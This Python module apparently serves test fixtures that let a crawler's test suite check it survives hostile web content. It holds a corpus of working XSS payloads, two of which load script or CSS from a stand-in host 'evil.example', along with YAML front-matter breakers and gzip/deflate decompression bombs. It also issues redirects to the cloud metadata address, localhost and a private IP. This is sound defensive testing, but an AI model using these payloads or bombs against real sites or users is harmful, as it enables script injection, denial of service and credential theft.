"""The hostile corner of the demo web: ``broken:/hostile/...`` answers what a crawler must survive.

Nothing in the demo's own sources links here; tests crawl it with a source of their own
(``HOSTILE_FEED``, ``HOSTILE_MANY``) or fetch the routes one by one.

- ``feed.xml``: entries with XSS payloads and YAML breakers in titles, authors and categories, dates
  in year 9999 and 1900, and links to every page below plus to forbidden addresses;
- ``xss.html``: the XSS corpus (``XSS_PAYLOADS``) in an article body;
- ``bad-bytes.html``: invalid UTF-8, NUL and control characters;
- ``one-line.html``: a 5 MB page on a single line; ``nested.html``: 20,000 nested elements;
- ``many.xml``: a feed with 10,000 entries;
- ``bomb``: 64 MiB of zeros gzipped into about 64 KB (a decompression bomb); ``deflate-bomb`` the same
  deflated; ``bomb.xml`` a feed and ``bomb.png`` a picture that are such bombs; ``bombs.xml`` a feed
  whose entries lead to the page bombs, carry the picture bomb, and one calm page (``calm.html``);
- ``endless``: a chunked page that never ends (the server stops after 1 GiB);
- ``busy?...``: 429 with ``Retry-After: 1`` the first time each target is asked, then the page;
- ``unavailable``: always 503, no Retry-After;
- ``to-metadata``, ``to-localhost``, ``to-private``: redirects to forbidden addresses;
- ``secret``: what a forbidden redirect would reach (a test asserts it is never asked for).
"""

from __future__ import annotations

import functools
import gzip
import threading
import zlib
from collections.abc import Callable
from xml.sax.saxutils import escape

PREFIX = "/hostile/"
HOSTILE_FEED = "broken:/hostile/feed.xml"
HOSTILE_MANY = "broken:/hostile/many.xml"
HOSTILE_BOMBS = ("broken:/hostile/bomb.xml", "broken:/hostile/bombs.xml")
MANY_ENTRIES = 10_000
METADATA_URL = "http://169.254.169.254/latest/meta-data/"
PRIVATE_URL = "http://10.0.0.1/admin"

# Script, event handlers, javascript:/data: URLs, SVG, style tricks, broken tags, encoded variants.
XSS_PAYLOADS: tuple[str, ...] = (
    "<script>alert('xss-script')</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert('xss-onerror')>",
    '<img src="javascript:alert(\'xss-img-js\')">',
    "<body onload=alert('xss-onload')>",
    '<a href="javascript:alert(\'xss-href\')">click</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab entity</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal entities</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data url</a>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "<svg onload=alert('xss-svg')><circle r=1 /></svg>",
    "<svg><script>alert('xss-svg-script')</script></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<div style="background:url(javascript:alert(1))">style url</div>',
    '<p style="width: expression(alert(1))">css expression</p>',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<img src=x onerror="&#97;lert(1)"',  # a broken tag: never closed
    "<<script>alert('xss-double')//<</script>",
    "<scr<script>ipt>alert('xss-split')</scr</script>ipt>",
    '<a href="  javascript:alert(1)">leading spaces</a>',
    '<video><source onerror="alert(1)"></video>',
    '<details open ontoggle=alert(1)>',
    '<link rel="stylesheet" href="javascript:alert(1)">',
)
# Text that looks like markup or breaks YAML front matter, for titles, authors and categories.
EVIL_TITLE = 'Title "quoted" \n---\nlayout: evil\n<script>alert(\'xss-title\')</script> & <b>bold</b>'
EVIL_AUTHOR = "Mallory\n---\nx: y <img src=x onerror=alert('xss-author')>"
CONTROL = "".join(chr(c) for c in range(0, 32) if chr(c) not in "\t\n\r")


class HostileRoutes:
    def __init__(self, render: Callable[[str], str], base_url: Callable[[str], str]) -> None:
        self._base_url = base_url
        self._busy_seen: set[str] = set()
        self._lock = threading.Lock()

    def answer(self, path: str, target: str) -> tuple[int, list[tuple[str, str]], bytes] | None:
        """(status, headers, body) for a ``/hostile/`` target on the broken host; None for other paths."""
        if not path.startswith(PREFIX):
            return None
        name = path.removeprefix(PREFIX)
        html = [("Content-Type", "text/html; charset=utf-8")]
        base = self._base_url("broken")
        if name == "feed.xml":
            return 200, [("Content-Type", "application/rss+xml; charset=utf-8")], self.feed(base).encode()
        if name == "many.xml":
            return 200, [("Content-Type", "application/rss+xml; charset=utf-8")], many_feed(base)
        if name == "xss.html":
            return 200, html, xss_page().encode()
        if name == "bad-bytes.html":
            return 200, [("Content-Type", "text/html; charset=utf-8")], bad_bytes_page()
        if name == "one-line.html":
            return 200, html, one_line_page()
        if name == "nested.html":
            return 200, html, nested_page()
        if name in ("y9999.html", "y1900.html"):
            return 200, html, article(f"A story dated {name[1:5]}", "<p>" + "正文一段。" * 40 + "</p>").encode()
        if name == "bomb":
            return 200, [*html, ("Content-Encoding", "gzip")], bomb()
        if name == "deflate-bomb":
            return 200, [*html, ("Content-Encoding", "deflate")], deflate_bomb()
        if name == "bomb.xml":
            return 200, [("Content-Type", "application/rss+xml"), ("Content-Encoding", "gzip")], bomb()
        if name == "bomb.png":
            return 200, [("Content-Type", "image/png"), ("Content-Encoding", "gzip")], bomb()
        if name == "bombs.xml":
            return 200, [("Content-Type", "application/rss+xml; charset=utf-8")], bombs_feed(base)
        if name == "endless":
            return 200, html, ("<p>" + "没有尽头的正文。" * 4000 + "</p>\n").encode()
        if name == "calm.html":
            return 200, html, article("A calm page among bombs", "<p>" + "风平浪静的一天。" * 40 + "</p>").encode()
        if name == "busy":
            with self._lock:
                first = target not in self._busy_seen
                self._busy_seen.add(target)
            if first:
                return 429, [*html, ("Retry-After", "1")], b"<p>Too many requests</p>"
            return 200, html, article("Busy, then fine", "<p>" + "终于轮到你了。" * 40 + "</p>").encode()
        if name == "unavailable":
            return 503, html, b"<p>Service unavailable</p>"
        if name == "to-metadata":
            return 302, [("Location", METADATA_URL), *html], b""
        if name == "to-private":
            return 302, [("Location", PRIVATE_URL), *html], b""
        if name == "to-localhost":
            port = base.rsplit(":", 1)[1]
            return 302, [("Location", f"http://localhost:{port}{PREFIX}secret"), *html], b""
        if name == "secret":
            return 200, html, b"<p>internal secret</p>"
        return None

    def feed(self, base: str) -> str:
        entries = [
            ("xss.html", EVIL_TITLE, EVIL_AUTHOR, "cat]\n- evil: [1", "Mon, 23 Nov 2026 08:00:00 +0800"),
            ("bad-bytes.html", "Bad\x01bytes", "", "", "Mon, 23 Nov 2026 09:00:00 +0800"),
            ("one-line.html", "One line", "", "", "Mon, 23 Nov 2026 10:00:00 +0800"),
            ("nested.html", "Nested", "", "", "Mon, 23 Nov 2026 11:00:00 +0800"),
            ("y9999.html", "Year 9999", "", "", "Fri, 31 Dec 9999 23:59:59 +0000"),
            ("y1900.html", "Year 1900", "", "", "Mon, 01 Jan 1900 00:00:00 +0000"),
            ("busy?from=feed", "Busy", "", "", "Mon, 23 Nov 2026 12:00:00 +0800"),
            ("to-metadata", "Metadata", "", "", "Mon, 23 Nov 2026 12:10:00 +0800"),
            ("to-localhost", "Localhost", "", "", "Mon, 23 Nov 2026 12:20:00 +0800"),
        ]
        items = []
        for path, title, author, category, date in entries:
            # Control characters cannot be in XML 1.0 at all: a feed carries them as they come, broken.
            items.append(
                f"<item><title>{escape(title.replace(chr(1), ''))}</title><link>{base}{PREFIX}{path}</link>"
                f"<guid>{base}{PREFIX}{path}</guid><pubDate>{date}</pubDate>"
                + (f"<author>{escape(author)}</author>" if author else "")
                + (f"<category>{escape(category)}</category>" if category else "")
                + f"<description>{escape(''.join(XSS_PAYLOADS[:6]))}</description></item>")
        items.append(f"<item><title>Private</title><link>{PRIVATE_URL}</link><guid>{PRIVATE_URL}</guid></item>")
        return ('<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>Hostile</title>'
                f"<link>{base}{PREFIX}</link><description>hostile</description>"
                f"{''.join(items)}</channel></rss>\n")


def article(title: str, body: str, author: str | None = "测试") -> str:
    byline = f'<meta name="author" content="{escape(author, {chr(34): "&quot;"})}">' if author else ""
    return (f'<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>{escape(title)}</title>'
            f"{byline}</head><body><article><h1>{escape(title)}</h1>{body}</article></body></html>\n")


def xss_page() -> str:
    paragraphs = "".join(f"<p>第{i}段正文，足够长以便被抽取为文章内容。{payload}</p>"
                         for i, payload in enumerate(XSS_PAYLOADS))
    image = f'<p><img src="{METADATA_URL}logo.png" alt="metadata"></p>'
    # No author of its own: the feed's evil one is used. The title is the evil one too.
    return article(EVIL_TITLE, paragraphs + image, author=None)


def bad_bytes_page() -> bytes:
    text = article("Bad bytes", "<p>" + "正文一段。" * 30 + "INVALID</p><p>" + "第二段。" * 30 + "CONTROL</p>")
    # Bytes no UTF-8 decoder accepts, a NUL and every C0 control character, in the middle of the text.
    return text.encode().replace(b"INVALID", b"\xff\xfe\xc3\x28\xa0\xa1\x00").replace(b"CONTROL", CONTROL.encode())


@functools.cache
def one_line_page() -> bytes:
    body = "<p>" + "一行到底的正文，" * 200 + "</p>"
    page = article("One line", body).replace("\n", "")
    filler = "<span>填充</span>" * ((5_000_000 - len(page.encode())) // len("<span>填充</span>".encode()))
    return page.replace("</article>", filler + "</article>").encode()


@functools.cache
def nested_page() -> bytes:
    depth = 20_000
    deep = "<div>" * depth + "深处" + "</div>" * depth
    return article("Nested", "<p>" + "嵌套很深的正文。" * 30 + "</p>" + deep).encode()


@functools.cache
def many_feed(base: str) -> bytes:
    items = "".join(f"<item><title>Entry {i}</title><link>{base}{PREFIX}entry/{i}</link>"
                    f"<guid>{base}{PREFIX}entry/{i}</guid><pubDate>Mon, 23 Nov 2026 08:00:00 +0800</pubDate></item>"
                    for i in range(MANY_ENTRIES))
    return ('<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>Many</title>'
            f"<link>{base}{PREFIX}</link><description>many</description>{items}</channel></rss>\n").encode()


@functools.cache
def bomb() -> bytes:
    return gzip.compress(bytes(64 * 1024 * 1024), compresslevel=9, mtime=0)


@functools.cache
def deflate_bomb() -> bytes:
    return zlib.compress(bytes(64 * 1024 * 1024), 9)


def bombs_feed(base: str) -> bytes:
    """Entries leading to the page bombs, one whose own content shows the picture bomb, one calm page."""
    items = [f"<item><title>{name}</title><link>{base}{PREFIX}{name}</link><guid>{base}{PREFIX}{name}</guid>"
             "<pubDate>Mon, 23 Nov 2026 08:00:00 +0800</pubDate></item>"
             for name in ("bomb", "deflate-bomb", "endless", "calm.html")]
    picture = escape(f'<p>一张图片。</p><p><img src="{base}{PREFIX}bomb.png"></p>')
    items.append('<item><title>A picture bomb</title><guid isPermaLink="false">picture-bomb</guid>'
                 f"<description>{picture}</description><pubDate>Mon, 23 Nov 2026 09:00:00 +0800</pubDate></item>")
    return ('<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>Bombs</title>'
            f"<link>{base}{PREFIX}</link><description>bombs</description>{''.join(items)}</channel></rss>\n").encode()
